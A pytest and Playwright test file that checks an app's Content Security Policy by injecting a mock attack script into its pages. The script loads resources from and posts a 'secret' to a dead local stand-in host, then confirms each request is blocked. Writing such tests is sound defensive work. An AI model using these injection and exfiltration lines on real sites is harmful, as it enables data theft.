"""What the page's policy forbids is not done, and what the pages do is not forbidden."""

import pytest
from playwright.async_api import Browser, expect
from visiting import CHROMIUM, SOON, come

from serving import Installation

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium")

ATTACK = """async () => {
  const told = []
  addEventListener("securitypolicyviolation", (e) => told.push(e.effectiveDirective))
  const added = (name, more) => document.body.append(Object.assign(document.createElement(name), more))
  added("script", { src: "http://127.0.0.1:9/theirs.js" })
  added("img", { src: "http://127.0.0.1:9/told?what=secret" })
  added("iframe", { src: "http://127.0.0.1:9/" })
  added("object", { data: "http://127.0.0.1:9/" })
  added("link", { rel: "stylesheet", href: "http://127.0.0.1:9/theirs.css" })
  added("base", { href: "http://127.0.0.1:9/" })
  const form = Object.assign(document.createElement("form"), { action: "http://127.0.0.1:9/", method: "post" })
  document.body.append(form)
  form.submit()
  await fetch("http://127.0.0.1:9/told", { method: "POST", body: "secret" }).catch(() => {})
  try { new WebSocket("ws://127.0.0.1:9/") } catch { }
  while (new Set(told).size < 8) await new Promise((soon) => requestAnimationFrame(soon))
  return [...new Set(told)].sort()
}"""
FORBIDDEN = ["base-uri", "connect-src", "form-action", "frame-src", "img-src", "object-src", "script-src-elem"]


async def test_no_page_asks_for_what_its_policy_forbids(browser: Browser, laptop: Installation, first_run: str) -> None:
    visitor = await come(browser, laptop)
    page = visitor.page
    paths = ["/", "/data", "/train", "/runs", f"/runs/{first_run}", "/evaluate", "/laboratory", "/models"]
    paths += [f"/models/{first_run}", f"/compare?run={first_run}", "/try", "/gallery", "/account", "/administration"]
    for path in paths:
        await visitor.whole(path)
    assert visitor.complaints == []
    await page.close()


async def test_what_somebody_has_smuggled_into_a_page_reaches_nobody(browser: Browser, laptop: Installation) -> None:
    visitor = await come(browser, laptop)
    await visitor.open("/models")
    await expect(visitor.page.locator("h1").first).to_be_visible(timeout=SOON)
    told = await visitor.page.evaluate(ATTACK)
    assert set(FORBIDDEN) <= set(told), told
    await visitor.page.close()
    stranger = await browser.new_page()
    await stranger.goto(laptop.link.partition("/login")[0] + "/login")
    script = "() => { document.body.append(Object.assign(document.createElement('script'), { text: 'stolen = 1' })) }"
    await stranger.evaluate(script)
    assert await stranger.evaluate("() => typeof stolen") == "undefined"
    await stranger.close()


async def test_answers_of_the_api_are_no_pages(browser: Browser, laptop: Installation, first_run: str) -> None:
    visitor = await come(browser, laptop)
    base = laptop.link.partition("/login")[0]
    for path in ("/api/v1/models", "/api/v1/nothing", f"/api/v1/runs/{first_run}/files/report.html"):
        policy = (await visitor.page.request.get(base + path)).headers["content-security-policy"]
        assert policy.startswith("default-src 'none'")
        assert "sandbox" in policy
        assert "script-src" not in policy
    await visitor.page.close()
